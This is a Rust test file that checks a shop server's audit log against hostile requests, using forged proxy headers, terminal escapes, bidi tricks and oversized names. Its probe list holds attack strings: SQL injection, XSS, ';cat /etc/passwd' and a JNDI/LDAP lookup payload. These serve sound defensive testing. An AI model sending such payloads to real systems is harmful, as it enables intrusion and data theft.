//! Requests that no browser sends, through real sockets.

use reqwest::StatusCode;
use sea_orm_audit::entity::audit_log;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::{PASSWORD, TestResult, TestShop};

on_every_database! {
    hostile_headers_neither_disturb_a_request_nor_spoil_the_log,
    hostile_names_are_stored_bounded_and_clean,
    findings_of_many_networks_are_bounded,
    findings_hold_no_secrets,
}

/// Sends bytes, and returns the status and the request's id.
async fn send(shop: &TestShop, request: &[u8]) -> TestResult<(u16, Option<String>)> {
    let mut socket = TcpStream::connect(shop.address).await?;
    // The server may answer, and close, before it has read everything.
    let _ = socket.write_all(request).await;
    let mut answer = Vec::new();
    let _ = socket.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer);
    let status = answer.split(' ').nth(1).ok_or("no answer")?.parse()?;
    let id = answer
        .lines()
        .find_map(|line| line.strip_prefix("x-request-id: "));
    Ok((status, id.map(str::to_owned)))
}

/// Views a product with one more header, and returns the `VIEW`.
async fn look_with(shop: &TestShop, header: &[u8]) -> TestResult<audit_log::Model> {
    let mut request = b"GET /products/1 HTTP/1.1\r\nhost: shop\r\nconnection: close\r\n".to_vec();
    request.extend_from_slice(header);
    request.extend_from_slice(b"\r\n\r\n");
    let (status, id) = send(shop, &request).await?;
    assert_eq!(status, 200);
    let mut log = shop.log().await?;
    log.retain(|record| record.request_id == id);
    assert_eq!(log.len(), 1, "{log:#?}");
    let record = log.remove(0);
    assert_eq!(
        (&*record.action, &*record.actor_type),
        ("VIEW", "ANONYMOUS")
    );
    Ok(record)
}

/// The text contains no terminal control characters.
fn is_clean(text: &str) -> bool {
    !text.chars().any(|char| {
        char.is_control()
            || matches!(char, '\u{61c}' | '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn text_that_controls_a_terminal_or_reorders_is_not_clean() {
    for unclean in [
        "\u{1b}[31m",
        "\0",
        "\n",
        "\u{9b}",
        "\u{61c}",
        "\u{200e}",
        "\u{200f}",
        "\u{2028}",
        "\u{202e}",
        "\u{2066}",
    ] {
        assert!(!is_clean(&format!("Ann{unclean}x")), "{unclean:?}");
    }
    assert!(is_clean("Zoë\u{fffd} ␛ 🦀"));
}

async fn hostile_headers_neither_disturb_a_request_nor_spoil_the_log(
    shop: &TestShop,
) -> TestResult {
    let forged = "6.6.6.6, ".repeat(200);
    for (value, address) in [
        // If the proxy's header cannot be parsed, the proxy is recorded.
        ("unknown", "127.0.0.1"),
        ("_hidden", "127.0.0.1"),
        ("6.6.6.6, unknown", "127.0.0.1"),
        ("6.6.6.6,", "127.0.0.1"),
        ("'; DROP TABLE audit_log; --", "127.0.0.1"),
        // None of the client's own headers is trusted.
        (&format!("{forged}192.0.2.60"), "192.0.2.60"),
        ("6.6.6.6, 192.0.2.60, 127.0.0.1", "192.0.2.60"),
    ] {
        let record = look_with(shop, format!("x-forwarded-for: {value}").as_bytes()).await?;
        assert_eq!(record.ip_address.as_deref(), Some(address), "{value}");
    }
    let trusted = "127.0.0.1, ".repeat(200);
    let header = format!("x-forwarded-for: 6.6.6.6, {trusted}127.0.0.1");
    let record = look_with(shop, header.as_bytes()).await?;
    assert_eq!(record.ip_address.as_deref(), Some("127.0.0.1"));
    // Headers that are not configured as trusted.
    for header in [
        "x-real-ip: 6.6.6.6",
        "forwarded: for=6.6.6.6",
        "true-client-ip: 6.6.6.6",
    ] {
        let record = look_with(shop, header.as_bytes()).await?;
        assert_eq!(record.ip_address.as_deref(), Some("127.0.0.1"), "{header}");
    }
    assert!(!shop.dump().await?.contains("6.6.6.6"));

    let long = format!("x-junk: {}", "j".repeat(10 * 1024));
    look_with(shop, long.as_bytes()).await?;
    let agent = format!("user-agent: {}", "a".repeat(10 * 1024));
    let stored = look_with(shop, agent.as_bytes()).await?.user_agent;
    assert!(stored.is_some_and(|stored| stored.chars().count() <= 512 && stored.ends_with('…')));
    let stored = look_with(
        shop,
        b"user-agent: caf\xe9\xff \xc2\x9b31m \xe2\x80\xaeevil \xe2\x80\x8e\xe2\x80\x8f\xd8\x9c",
    )
    .await?;
    let stored = stored.user_agent.ok_or("no agent")?;
    assert!(
        is_clean(&stored) && stored.starts_with("caf\u{fffd}"),
        "{stored:?}"
    );
    look_with(shop, b"x-other: \xff\xfe\x80").await?;
    look_with(shop, b"cookie: id=\xff\xfe; \xff").await?;
    look_with(shop, b"traceparent: 00-\xff-zz-01").await?;

    for id in [
        "a b",
        "<script>",
        &"x".repeat(500),
        "'; DROP TABLE audit_log",
        "=1+2",
        "+1",
        "-1",
        "@a",
    ] {
        let record = look_with(shop, format!("x-request-id: {id}").as_bytes()).await?;
        assert_ne!(record.request_id.as_deref(), Some(id));
    }
    let record = look_with(shop, b"x-request-id: from-the-proxy-7").await?;
    assert_eq!(record.request_id.as_deref(), Some("from-the-proxy-7"));

    // Invalid HTTP is refused, and leaves no record.
    let before = shop.log().await?.len();
    for request in [
        &b"GET /products/1 HTTP/1.1\r\nhost: shop\r\nuser-agent: \x1b[31mred\r\n\r\n"[..],
        b"GET /products/1\x1b[2J HTTP/1.1\r\nhost: shop\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    ] {
        let (status, _) = send(shop, request).await?;
        assert_eq!(status, 400);
    }
    assert_eq!(shop.log().await?.len(), before);
    // A path is recorded as it came, encoded.
    let probe = b"GET /wp-admin/%0d%0a%1b[31mADMIN%20WAS%20HERE HTTP/1.1\r\nhost: shop\r\nconnection: close\r\n\r\n";
    assert_eq!(send(shop, probe).await?.0, 404);
    for event in shop.events().await? {
        let description = event.description.unwrap_or_default();
        assert!(is_clean(&description), "{description:?}");
    }
    Ok(())
}

async fn hostile_names_are_stored_bounded_and_clean(shop: &TestShop) -> TestResult {
    let client = shop.client()?;
    let hostile = "Ann\r\n2026-11-23 LOGIN admin \u{1b}[31m\u{0}\u{9b}2J";
    for name in [hostile, &"x".repeat(60_000), "'; DROP TABLE audit_log; --"] {
        let answer = client.log_in_from("192.0.2.1", name, "a guess").await?;
        answer.expect(StatusCode::UNAUTHORIZED);
    }
    let refused = json!({ "name": hostile, "password": PASSWORD });
    let answer = client.post("/signup", &refused).await?;
    answer.expect(StatusCode::BAD_REQUEST);
    for attempt in shop.attempts().await? {
        let name = attempt.username.ok_or("no name")?;
        assert!(
            name.starts_with("hmac-sha256:test:") && name.len() <= 255,
            "{name}"
        );
    }

    // A name that the shop accepts, and that would reorder the text printed after it.
    let tricky = "Ann\u{202e}nimda\u{200e}\u{200f}\u{61c}";
    let ann = shop.signed_in(tricky).await?;
    let seen = ann.get("/products/1").await?;
    let failed = client.log_in_from("192.0.2.2", tricky, "a guess").await?;
    failed.expect(StatusCode::UNAUTHORIZED);
    // A product's name may be any text: the changes contain it unmodified, the label does not.
    let admin = shop.signed_in("admin").await?;
    let name = "Tea\r\n\u{1b}[2JCoffee";
    let edited = admin.patch("/products/1", &json!({ "name": name })).await?;
    edited.expect(StatusCode::OK);
    let edit = shop.record_of(&edited).await?;
    let changes = edit.changes.as_ref().ok_or("no changes")?;
    assert_eq!(changes["name"]["new"], name);

    assert_eq!(
        shop.record_of(&seen).await?.actor_name.as_deref(),
        Some("Ann\u{fffd}nimda\u{fffd}\u{fffd}\u{fffd}")
    );
    for record in shop.log().await? {
        for text in [&record.object_repr, &record.actor_name]
            .into_iter()
            .flatten()
        {
            assert!(is_clean(text), "{text:?}");
        }
        let username = record
            .metadata
            .as_ref()
            .and_then(|more| more["username"].as_str());
        assert!(username.is_none_or(is_clean), "{username:?}");
    }
    for attempt in shop.attempts().await? {
        for text in [&attempt.username, &attempt.actor_name]
            .into_iter()
            .flatten()
        {
            assert!(is_clean(text), "{text:?}");
        }
    }
    Ok(())
}

/// Requests these targets over one connection, each as another client. The proxy's header is trusted.
async fn ask_as(shop: &TestShop, requests: &[(String, String)]) -> TestResult {
    let mut socket = TcpStream::connect(shop.address).await?;
    let last = requests.len() - 1;
    let text = requests.iter().enumerate().map(|(number, (target, client))| {
        let connection = if number == last { "close" } else { "keep-alive" };
        format!(
            "GET {target} HTTP/1.1\r\nhost: shop\r\nx-forwarded-for: {client}\r\nconnection: {connection}\r\n\r\n"
        )
    });
    let text: String = text.collect();
    let (mut reads, mut writes) = socket.split();
    let mut answers = Vec::new();
    let (sent, read) = tokio::join!(
        writes.write_all(text.as_bytes()),
        reads.read_to_end(&mut answers)
    );
    sent?;
    read?;
    let answers = String::from_utf8_lossy(&answers);
    assert_eq!(answers.matches("HTTP/1.1 ").count(), requests.len());
    Ok(())
}

/// An owner of many networks, and many owners.
async fn findings_of_many_networks_are_bounded(shop: &TestShop) -> TestResult {
    const PROBE: &str = "/wp-admin";
    let owner: Vec<_> = (0..2_000)
        .map(|network| (PROBE.to_owned(), format!("2001:db8:7:{network:x}::1")))
        .collect();
    ask_as(shop, &owner).await?;
    let security = async || -> TestResult<Vec<_>> {
        let events = shop.events().await?;
        Ok((events.into_iter())
            .filter(|event| event.event_type == "SECURITY")
            .collect())
    };
    let found = security().await?;
    // Those of 200 networks, and one for all others.
    assert_eq!(found.len(), 201);
    let counted: i64 = found.iter().map(|event| event.occurrences).sum();
    assert_eq!(counted, 2_000);
    let others = found.iter().find(|event| event.occurrences > 1);
    let others = others.ok_or("no event for the others")?;
    assert_eq!(others.occurrences, 1_800);
    assert_eq!(
        others.description.as_deref(),
        Some("more than 200 different findings of one network within an hour")
    );

    let many: Vec<_> = (0..3_000)
        .map(|number| {
            (
                PROBE.to_owned(),
                format!("198.{}.{}.7", 18 + number / 250, number % 250),
            )
        })
        .collect();
    for some in many.chunks(500) {
        ask_as(shop, some).await?;
        // So that the writer's queue has space, and none is dropped.
        shop.events().await?;
    }
    let found = security().await?;
    assert_eq!(
        found.len(),
        2_002,
        "2,000 one by one, and two for the others"
    );
    let counted: i64 = found.iter().map(|event| event.occurrences).sum();
    assert_eq!(counted, 5_000);
    Ok(())
}

async fn findings_hold_no_secrets(shop: &TestShop) -> TestResult {
    const SECRET: &str = "hunter2";
    let targets = [
        "/products?pass=SECRET'+or+1=1--",
        "/products?sid=SECRET%00",
        "/products?sig=SECRET%3Cscript%3Ealert(1)",
        "/products?auth=SECRET;cat+/etc/passwd",
        "/products?key=SECRET'+union+select+1,2",
        "/products?card=SECRET'--+",
        "/products?refresh=SECRET$%7Bjndi:ldap://x/a%7D",
        "/products?next=/cb?token=SECRET%26x=%3Csvg/onload=alert(1)%3E",
        "/products?q=%7B%22password%22:%22SECRET%22,%22x%22:%22'+or+1=1--%22%7D",
        // Without a name.
        "/products?%7B%22password%22:%22SECRET%22,%22x%22:%22'+or+1=1--%22%7D",
        "/products?token:SECRET'+or+1=1--",
        "/products?SECRET'+or+1=1--",
        "/products?%20SECRET%20='+or+1=1--",
        // In a path.
        "/reset/SECRET/.env",
        "/cb&token=SECRET/.env",
        "/cb%3Ftoken=SECRET%00",
        "/.git/SECRET",
    ];
    for target in targets {
        let target = target.replace("SECRET", SECRET);
        ask_as(shop, &[(target, "192.0.2.9".to_owned())]).await?;
    }
    let events = shop.events().await?;
    let found = events.iter().filter(|event| event.event_type == "SECURITY");
    let found: i64 = found.map(|event| event.occurrences).sum();
    assert_eq!(found, i64::try_from(targets.len())?);
    assert!(!shop.dump().await?.contains(SECRET));
    Ok(())
}
